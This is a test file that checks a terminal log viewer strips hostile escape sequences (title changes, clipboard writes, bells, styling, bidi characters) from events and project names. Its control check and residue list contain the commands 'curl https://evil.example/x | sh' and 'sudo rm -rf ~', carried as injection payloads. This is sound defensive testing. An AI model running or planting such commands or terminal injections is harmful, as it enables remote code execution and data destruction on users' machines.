/**
 * Hostile text in a real terminal: the built TUI in tmux, tailing an emulator (in this process, on
 * loopback) whose events and project names carry every escape the emulator's hostile mode knows. tmux
 * obeys these sequences (the first test proves it), so a sequence that got through would show as a
 * changed pane title, a paste buffer (`set-clipboard on`), a bell, a left alternate screen, blinking
 * cells or a broken frame.
 */
import stringWidth from "string-width";
import { afterEach, beforeAll, describe, expect, it } from "vitest";
import { createEmulator } from "../../source/emulator/emulator.js";
import { hostilePayloads, unterminatedPayloads } from "../../source/emulator/hostile.js";
import type { Emulator } from "../../source/emulator/types.js";
import { binPath } from "../support/run-cli.js";
import { hasTmux, startTmux, type TmuxSession } from "../support/tmux.js";

const width = 160;
const height = 50;
const knownTitle = "KNOWN-TITLE";
const sessions: TmuxSession[] = [];
const emulators: Emulator[] = [];

afterEach(async () => {
	for (const session of sessions.splice(0)) session.kill();
	await Promise.all(emulators.splice(0).map((emulator) => emulator.close()));
});

/** Every payload, named; the unterminated ones only work at the very end of a string. */
const middle = Object.entries(hostilePayloads);
const trailing = Object.entries(unterminatedPayloads);

/** One payload by name (hostile.ts keeps them in records). */
function payload(name: string): string {
	const value = hostilePayloads[name] ?? unterminatedPayloads[name];
	if (value === undefined) throw new Error(`no payload named ${name}`);
	return value;
}

/** What must never reach the screen: text that only lives inside the sequences, or their pieces. */
const residue = [
	"pwned",
	"sudo rm",
	"evil.example",
	"c1 title",
	"title that never ends",
	"]0;",
	"]2;",
	"]52;",
	"]8;",
	"$q",
	"[2J",
	"[3J",
	"[3A",
	"[2K",
	"[12;40H",
	"[5;31;47m",
	"1;1H",
	"P1;1|",
];

/** The TUI tailing `projects` on `emulator`, in a fresh tmux session. */
function startTui(emulator: Emulator, projects: readonly string[]): TmuxSession {
	const session = startTmux(
		[
			process.execPath,
			binPath,
			"--store-hash",
			emulator.storeHash,
			"--api-host",
			emulator.origin,
			...projects,
		].join(" "),
		{ width, height, env: { CATALYST_ACCESS_TOKEN: emulator.token } },
	);
	sessions.push(session);
	return session;
}

function setKnownTitle(session: TmuxSession): void {
	session.run("select-pane", "-t", `${session.name}:0.0`, "-T", knownTitle);
	expect(session.format("pane_title")).toBe(knownTitle);
}

/** The terminal state no log line may change. */
function expectTerminalUntouched(session: TmuxSession): void {
	expect(session.format("pane_title")).toBe(knownTitle);
	expect(session.run("list-buffers")).toBe("");
	expect(session.format("window_bell_flag")).toBe("0");
	expect(session.format("alternate_on")).toBe("1");
	expect(session.format("pane_dead")).toBe("0");
	const styled = session.captureStyled();
	// The SGR payload (blink, red on white) would have leaked into the cells that follow it.
	expect(styled).not.toContain("\u001b[5m");
	expect(styled).not.toContain("\u001b[47m");
}

/** No piece of any sequence on screen, and no control, C1 or bidi character. */
function expectNoResidue(screen: string): void {
	for (const piece of residue) expect(screen, `residue ${JSON.stringify(piece)}`).not.toContain(piece);
	expect(screen).not.toMatch(
		/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/,
	);
}

/**
 * What is wrong with the panes' frame, or null when it is where the layout put it: the top border, a
 * side border at both ends of every body line, the bottom border, then the status bar; every framed
 * line exactly the terminal's width.
 */
function frameProblem(screen: string): string | null {
	const lines = screen.split("\n").slice(0, height);
	if (lines.length !== height) return `${lines.length} lines, not ${height}`;
	const framed = lines.slice(0, height - 1);
	if (!/^╭─.*─╮$/.test(framed[0] ?? "")) return "no top border";
	if (!/^╰─.*─╯$/.test(framed.at(-1) ?? "")) return "no bottom border";
	const unframed = framed.slice(1, -1).find((line) => !/^│.*│$/.test(line));
	if (unframed !== undefined) return `a body line without side borders: ${JSON.stringify(unframed)}`;
	const wrongWidth = framed.find((line) => stringWidth(line) !== width);
	if (wrongWidth !== undefined)
		return `a line ${stringWidth(wrongWidth)} wide: ${JSON.stringify(wrongWidth)}`;
	if (!/^ (TAIL|VIEW|PICK) /.test(lines.at(-1) ?? "")) return "no status bar";
	return null;
}

/**
 * Waits for a screen that satisfies `predicate` with the frame whole. tmux can be captured while a
 * frame is still being written (the more so on a busy machine), so one capture with a torn frame
 * proves nothing; a frame that hostile text broke stays broken, and the wait fails with the problem
 * and the last screen.
 */
async function waitForFramed(session: TmuxSession, predicate: (screen: string) => boolean): Promise<string> {
	let problem: string | null = "no screen matched yet";
	try {
		const screen = await session.waitFor((text) => {
			if (!predicate(text)) return false;
			problem = frameProblem(text);
			return problem === null;
		}, 20_000);
		return screen;
	} catch (error) {
		throw new Error(`the frame never came whole (${problem})`, { cause: error });
	}
}

describe.runIf(hasTmux)("hostile text in a real terminal", () => {
	beforeAll(async () => {
		// tmux obeys the sequences these tests guard against: the checks can see an attack.
		const control = startTmux("sleep 30", { width: 80, height: 10 });
		try {
			setKnownTitle(control);
			const attack = Buffer.from(
				payload("oscWindowTitle") + payload("oscClipboard") + payload("bell") + payload("sgr"),
			).toString("base64");
			control.run(
				"respawn-pane",
				"-k",
				"-t",
				`${control.name}:0.0`,
				`printf '%s' '${attack}' | base64 -d; echo BLINK; sleep 30`,
			);
			await control.waitForText("BLINK");
			expect(control.format("pane_title")).toBe("sudo rm -rf ~");
			expect(control.run("list-buffers")).toContain("curl https://evil.example/x | sh");
			expect(control.format("window_bell_flag")).toBe("1");
			expect(control.captureStyled()).toContain("\u001b[5m");
		} finally {
			control.kill();
		}
	});

	it("escapes in messages, URLs, exception names and stacks, a 200,000-character line, and both overlays", async () => {
		const emulator = await createEmulator({ rate: 0, keepAliveMs: 1000, streamEndMs: 0 });
		emulators.push(emulator);
		const project = emulator.projects[0]?.uuid ?? "";
		const session = startTui(emulator, [project]);
		await session.waitFor(
			(screen) => screen.includes("catalyst-production") && screen.includes("● live"),
			20_000,
		);
		setKnownTitle(session);

		const at = new Date().toISOString();
		const events = [...middle, ...trailing].map(([name, attack], i) => {
			const end = trailing.some(([other]) => other === name);
			const wrap = (text: string) => (end ? `${text} ${attack}` : `${text} ${attack} tail`);
			return {
				uuid: `hostile-${i}-${name}`,
				project_uuid: project,
				request: {
					method: "GET",
					url: `https://shop.example/p${i}/${attack}${end ? "" : "/x"}`,
					status_code: 500,
				},
				logs: [{ timestamp: at, level: "error", messages: [wrap(`MARK${i}`)] }],
				exceptions: [
					{
						timestamp: at,
						name: wrap(`Err${i}`),
						message: wrap(`EXC${i}`),
						stack: `Err${i}: x\n    at handler (${attack}worker.js:1:1)\n    at ${wrap("next")}`,
					},
				],
				timestamp: at,
			};
		});
		for (const event of events) expect(emulator.push(project, event)).toBe(1);
		let long = "LONG-START ";
		for (let i = 0; long.length < 200_000; i++) {
			const [, attack] = middle[i % middle.length] ?? ["", ""];
			long += `${"word ".repeat(30)}${attack}`;
		}
		emulator.push(project, {
			uuid: "hostile-long",
			project_uuid: project,
			request: null,
			logs: [{ timestamp: at, level: "info", messages: [long.slice(0, 200_000)] }],
			exceptions: [],
			timestamp: at,
		});

		const screen = await waitForFramed(
			session,
			(text) => events.every((_, i) => text.includes(`MARK${i}`)) && text.includes("LONG-START word"),
		);
		for (let i = 0; i < events.length; i++) expect(screen).toContain(`EXC${i}`);
		expectTerminalUntouched(session);
		expectNoResidue(screen);

		// The newest exception (the last hostile event's) with its stack.
		session.keys("x");
		const exception = await waitForFramed(
			session,
			(text) => text.includes(`EXC${events.length - 1}`) && text.includes("at handler"),
		);
		expectTerminalUntouched(session);
		expectNoResidue(exception);

		// The detail of the row above the long one: an exception row whose event carries a payload.
		session.keys("Escape");
		await session.waitFor((text) => !text.includes("at handler"));
		session.keys("k", "k", "Enter");
		const detail = await waitForFramed(session, (text) => text.includes("Raw event"));
		expectTerminalUntouched(session);
		// The raw JSON shows the escapes as inert text, never as control characters.
		expect(detail).toContain("\\u001b");
		expect(detail).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
		session.keys("Escape");
		const back = await waitForFramed(session, (text) => !text.includes("Raw event"));
		expectTerminalUntouched(session);
		expectNoResidue(back);
	});

	it("hostile project names from the projects API: pane titles and the picker", async () => {
		const projects = [
			{
				uuid: "0193a4c2-7d1e-7b3a-9f21-5c8e4d6a2001",
				name: `shop${payload("oscTitle")}${payload("csiClear")}-one${payload("oscClipboard")}${payload("unterminatedOsc")}`,
				hostnames: [`a${payload("oscLink")}.example`, `b${payload("dcs")}${payload("bell")}.example`],
			},
			{
				uuid: "0193a4c2-7d1e-7b3a-9f21-5c8e4d6a2002",
				name: `${payload("c1Csi")}pre${payload("bidi")}view${payload("c1Osc")}${payload("sgr")}${payload("unterminatedCsi")}`,
				hostnames: [`c${payload("reset")}.example`],
			},
			{
				uuid: "0193a4c2-7d1e-7b3a-9f21-5c8e4d6a2003",
				name: `out${payload("oscWindowTitle")}let${payload("csiCursor")}${payload("unterminatedDcs")}`,
				hostnames: [`d${payload("c1Csi")}.example`],
			},
		];
		const emulator = await createEmulator({ rate: 2, keepAliveMs: 1000, streamEndMs: 0, projects });
		emulators.push(emulator);
		const session = startTui(emulator, []);
		// With no project given, the picker opens on the projects API's list.
		const picker = await session.waitFor((text) => text.includes("shop") && text.includes("outlet"), 20_000);
		setKnownTitle(session);
		expectTerminalUntouched(session);
		expectNoResidue(picker);
		expect(picker).toContain("shop-one");
		// Open all three: mark each (Space), then Enter.
		session.keys("Space", "Down", "Space", "Down", "Space", "Enter");
		const panes = await waitForFramed(
			session,
			(text) =>
				(text.match(/● live/g) ?? []).length === 3 && text.includes("shop-one") && text.includes("outlet"),
		);
		expectTerminalUntouched(session);
		expectNoResidue(panes);
		// The picker again, over open panes.
		session.keys("a");
		const again = await waitForFramed(
			session,
			(text) => /^ PICK /m.test(text) && text.includes("3 of 3") && text.includes("preexe.fdp adminview"),
		);
		expectTerminalUntouched(session);
		expectNoResidue(again);
	});
});
